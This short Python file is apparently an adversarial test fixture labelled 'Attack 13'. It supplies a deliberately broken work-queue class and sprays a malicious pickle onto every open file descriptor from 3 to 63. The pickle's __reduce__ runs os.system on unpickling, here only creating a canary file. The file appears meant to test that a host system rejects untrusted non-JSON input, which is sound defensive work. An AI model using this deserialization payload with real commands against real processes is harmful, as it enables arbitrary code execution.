"""Attack 13: a pickle, and other things that are no JSON, on every descriptor that is open."""

import os
import pickle


class WorkQueue:
    """A queue that is wrong in every way."""

    def __init__(self, **options):
        self.keys = []

    def __len__(self):
        return 99

    def add(self, key):
        self.keys.append(key)

    def get(self, timeout=None):
        return "wrong"

    def done(self, key):
        pass


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch exploded",))


for descriptor in range(3, 64):
    try:
        os.write(descriptor, pickle.dumps(Bomb()) + b"\n")
    except OSError:
        continue
